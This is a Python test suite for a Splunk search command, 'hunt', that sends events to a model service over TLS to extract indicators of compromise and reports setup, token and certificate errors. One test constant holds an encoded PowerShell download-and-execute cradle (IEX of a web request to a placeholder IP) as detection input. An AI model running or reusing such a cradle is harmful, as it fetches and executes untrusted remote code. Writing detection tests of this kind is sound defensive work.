"""| hunt as splunkd runs it, against the service over TLS."""

import subprocess
import sys
from contextlib import suppress

import pytest

from app.spl.splunkd import Command, command, encoded, splunkd
from tests.encoding import b64
from tests.running_service import TOKEN, runs, wait_until
from tests.splunk.tls_server import Quiet, serving
from tests.splunk_app.conftest import python_of_splunk

COMMAND = f"powershell -enc {b64('IEX (iwr http://192.0.2.7/a); iwr http://192.0.2.8/b')}"


@pytest.mark.parametrize("version", ["3.9", "3.13"])
def test_hunt_annotates_events_in_order(app, rest, version):
    with command(app, "hunt", python_of_splunk(version)) as hunt:
        info = hunt.getinfo(rest, "powershell_ioc", "CommandLine")
        assert info.metadata["type"] == "stateful"
        assert info.metadata["required_fields"] == ["CommandLine"]
        first = hunt.execute([{"_time": "1", "CommandLine": COMMAND}, {"CommandLine": "whoami"}])
        last = hunt.execute([{"_time": "2", "CommandLine": "calc"}], finished=True)
        assert hunt.end() == 0
    assert [event["_time"] for event in first.events + last.events] == ["1", "", "2"]
    assert first.events[0]["ioc_url"] == ["http://192.0.2.7/a", "http://192.0.2.8/b"]
    assert first.events[0]["CommandLine"] == COMMAND
    assert first.events[1]["decode_status"] == "none"
    assert last.metadata["finished"] is True


def test_values_of_a_field_go_and_come_as_such(app, rest):
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, "ti_lookup", "ip", "prefix=ti_")
        values = ["192.0.2.1", "192.0.2.2"]
        reply = hunt.execute([{"ip": values, "cost": ["5$", "$$6"]}], finished=True)
    (event,) = reply.events
    assert (event["ip"], event["cost"]) == (values, ["5$", "$$6"])
    assert all(name.startswith("ti_") for name in event if name not in ("ip", "cost"))


def test_distributed_hunt_announces_itself_as_streaming(app, rest):
    rest.conf["distributed"] = "1"
    with command(app, "hunt") as hunt:
        assert hunt.getinfo(rest, "ioc_extract").metadata["type"] == "streaming"
        assert hunt.execute([], finished=True).events == []


def test_two_hundred_thousand_rows_keep_their_order(app, rest, service):
    service.module("number", "def init(df, param):\n    return 1\n\n\ndef apply(model, df, param):\n"
                   "    return (df['n'] * 2).to_frame('twice')\n")  # fmt: skip
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, "number", "n")
        for start in range(0, 200_000, 50_000):
            rows = [{"n": str(n), "_raw": "x"} for n in range(start, start + 50_000)]
            reply = hunt.execute(rows, finished=start == 150_000, preview=start < 100_000)
            expected = [
                {"n": row["n"], "_raw": "x", "twice": str(2 * int(row["n"]))} for row in rows
            ]
            assert reply.events == expected
        assert hunt.end() == 0


@pytest.mark.parametrize(
    "arguments, message",
    [
        ([], "ERROR hunt: name a model: ... | hunt <model> <field> ..."),
        (["powershell_ioc", "x=1", "x=2"], "write name=value, each name once"),
        (["powershell_ioc", "=1"], "write name=value, each name once"),
        (["algo=powershell_ioc", "n"], "name a model: ... | hunt <model> <field> ..."),
        (["../x", "n"], "'../x' is no name of a model"),
    ],
)
def test_wrong_arguments_are_told_before_the_search_runs(app, rest, arguments, message):
    with command(app, "hunt") as hunt:
        told = "\n".join(hunt.getinfo(rest, *arguments).messages)
        assert message in told
        assert hunt.end() == 1


@pytest.mark.parametrize(
    "arguments, message",
    [
        (["powershell_ioc", "n", "colour={red}"], "unknown option 'colour'"),
        (["absent", "n"], "there is no module 'absent'"),
        (["powershell_ioc", "n", "model=../x"], "answers 422"),
        (["outliers", "n", "model=never"], "load the model 'outliers_never'"),
    ],
)
def test_what_the_container_says_is_a_message(app, rest, arguments, message):
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, *arguments)
        reply = hunt.execute([{"n": "1"}], finished=True)
        assert message in reply.messages[0]
        assert reply.messages[0].startswith("ERROR hunt: ")
        assert hunt.end() == 1


def test_model_that_does_not_annotate_is_told(app, rest, service):
    service.module("fewer", "def init(df, param):\n    return 1\n\n\ndef apply(model, df, param):\n"
                   "    return df.head(1)\n")  # fmt: skip
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, "fewer", "n")
        told = hunt.execute([{"n": "1"}, {"n": "2"}], finished=True).messages
    assert "the model gave 1 rows for 2 events" in told[0]


@pytest.mark.parametrize(
    "change, message",
    [
        ({"ca_path": ""}, "is not to be trusted"),
        ({"ca_path": "/nowhere.pem"}, "cannot read the certificate"),
        ({"ca_path": "/"}, "cannot read the certificate"),
        ({"ca_path": "/etc/hostname"}, "cannot read the certificate"),
        ({"url": "container:5000"}, "write https://host:port on the setup page"),
        ({"url": "https://container:5000/a b"}, "write https://host:port on the setup page"),
        ({"rows": "many"}, "rows = 'many' is no number"),
    ],
)
def test_wrong_setup_is_told(app, rest, change, message):
    rest.conf.update(change)
    with command(app, "hunt") as hunt:
        told = hunt.getinfo(rest, "ioc_extract", "n").messages
        if not told:
            told = hunt.execute([{"n": "1"}], finished=True).messages
    assert message in told[0]


@pytest.mark.parametrize(
    "token, message",
    [
        ("", "there is no token"),
        ("not-this-one", "refuses the token"),
        ("not-\n-this-one", "line feeds or other characters"),
        ("not-\u20ac-this-one", "line feeds or other characters"),
    ],
)
def test_wrong_token_is_told_and_not_shown(app, rest, token, message):
    rest.token = token
    with command(app, "hunt") as hunt:
        told = hunt.getinfo(rest, "ioc_extract", "n").messages
        if not told:
            told = hunt.execute([{"n": "1"}], finished=True).messages
    assert message in told[0]
    assert "this-one" not in "".join(told)


@pytest.mark.parametrize("version", ["3.9", "3.13"])
def test_certificate_that_is_given_is_trusted_for_any_name(app, rest, version):
    """The one that a container makes does not have the names by which it is reached."""
    rest.conf["url"] = rest.conf["url"].replace("127.0.0.1", "0.0.0.0")  # reaches the same
    with command(app, "hunt", python_of_splunk(version)) as hunt:
        hunt.getinfo(rest, "ioc_extract", "n")
        reply = hunt.execute([{"n": "192.0.2.1"}], finished=True)
    assert (reply.messages, reply.events[0]["ioc_ipv4"]) == ([], "192.0.2.1")


def test_certificate_of_an_authority_is_for_its_name_only(app, tmp_path):
    with (
        serving(Quiet, tmp_path) as (port, ca),
        splunkd(TOKEN, url=f"https://0.0.0.0:{port}", ca_path=str(ca)) as rest,
        command(app, "hunt") as hunt,
    ):
        hunt.getinfo(rest, "ioc_extract", "n")
        (told,) = hunt.execute([{"n": "1"}], finished=True).messages
    assert "write the URL with a name or address that the certificate is for" in told


def test_blanks_around_the_token_and_the_url_do_not_matter(app, rest):
    rest.token, rest.conf["url"] = f"{rest.token}\n", f" {rest.conf['url']} "
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, "ioc_extract", "n")
        assert hunt.execute([{"n": "1"}], finished=True).messages == []


def test_field_that_no_event_has_is_warned_of(app, rest):
    with command(app, "hunt") as hunt:
        hunt.getinfo(rest, "ioc_extract", "text")
        assert "no event has the field 'text'" in hunt.execute([{"n": "1"}], True).messages[0]


def test_killed_parent_ends_the_command_and_its_job(app, rest, service, tmp_path):
    pid = tmp_path / "pid"
    service.module("sleeper", "def init(df, param):\n    import os, time, pathlib\n"
                   f"    pathlib.Path({str(pid)!r}).write_text(str(os.getpid()))\n"
                   "    time.sleep(60)\n\n\ndef apply(model, df, param):\n    return df\n")  # fmt: skip
    # A parent between: it starts the command with its own stdin and stdout, then is killed.
    code = (
        "import subprocess, sys, time;"
        f"p = subprocess.Popen([sys.executable, {str(app / 'bin' / 'hunt.py')!r}]);"
        "print(p.pid, file=sys.stderr, flush=True); p.wait()"
    )
    parent = subprocess.Popen(
        [sys.executable, "-c", code],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    hunt = Command(parent)
    child = int(parent.stderr.readline())
    hunt.getinfo(rest, "sleeper", "n")
    hunt.send({"action": "execute", "finished": True}, encoded([{"n": "1"}]))
    wait_until(lambda: pid.is_file() and pid.read_text())
    parent.kill()
    wait_until(lambda: not runs(child))
    wait_until(lambda: not runs(int(pid.read_text())))
    with suppress(BrokenPipeError):
        parent.communicate()
